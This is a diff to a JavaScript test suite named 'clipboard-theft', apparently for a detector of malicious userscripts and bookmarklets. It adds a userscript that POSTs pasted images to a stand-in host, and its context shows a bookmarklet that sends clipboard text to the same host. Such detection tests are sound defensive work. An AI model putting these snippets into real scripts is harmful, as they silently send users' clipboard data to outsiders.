@@ -21,6 +21,14 @@ describe("clipboard-theft", () => {
 			),
 		],
 		[
+			"a picture that is pasted, to upload it: look at it",
+			["medium 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`document.addEventListener("paste",e=>{const d=new FormData();d.append("image",e.clipboardData.items[0].getAsFile());fetch("https://c.stranger.test/",{method:"POST",body:d}).then(r=>r.json()).then(console.log)})`,
+			),
+		],
+		[
 			"a bookmarklet that sends it and uses the answer: look at it",
 			["medium 1"],
 			`navigator.clipboard.readText().then(t=>fetch("https://c.stranger.test/?t="+t)).then(async r=>alert(await r.text()))`,
